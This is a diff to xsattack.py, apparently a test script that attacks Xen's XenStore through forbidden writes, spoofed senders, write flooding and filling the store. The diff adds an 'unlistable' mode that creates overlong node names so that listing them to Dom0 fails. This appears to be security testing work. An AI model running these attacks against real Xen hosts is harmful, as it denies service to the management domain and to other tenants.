@@ -7,6 +7,7 @@ usage: xsattack.py forbidden VICTIM OTHER       writes where it must not; prints
        xsattack.py others VICTIM OTHER NUMBER   one of several messages in others' names; it stays
        xsattack.py rewrite SECONDS VICTIM       the same few nodes, over and over; prints how many writes
        xsattack.py fill                         nodes until XenStore refuses; prints how many
+       xsattack.py unlistable                   more names than XenStore can list to Dom0, and a reason to list them
        xsattack.py clean
 """
 import random
@@ -53,6 +54,12 @@ def others(victim, other, number):
                               (f'{other}-0-0', third, it), ('0-0-0', me, it), (f'{store.read("domid")}-0-0', me, me),
                               ('32751-0-0', me, it))[int(number)]
     store.write(f'{OUTBOX}/to/{name}', ACCEPTED % (attempt(), sender, receiver))
+
+
+def unlistable():
+    for number in range(20):
+        store.write(f'{OUTBOX}/to/{"x" * 220}{number}', 'x')
+    store.write(f'{OUTBOX}/to', 'x')
 
 
 def rewrite(seconds, victim):
@@ -107,4 +114,4 @@ def clean():
     store.remove(OUTBOX)
 
 
-{f.__name__: f for f in (forbidden, curious, others, rewrite, fill, clean)}[sys.argv[1]](*sys.argv[2:])
+{f.__name__: f for f in (forbidden, curious, others, unlistable, rewrite, fill, clean)}[sys.argv[1]](*sys.argv[2:])
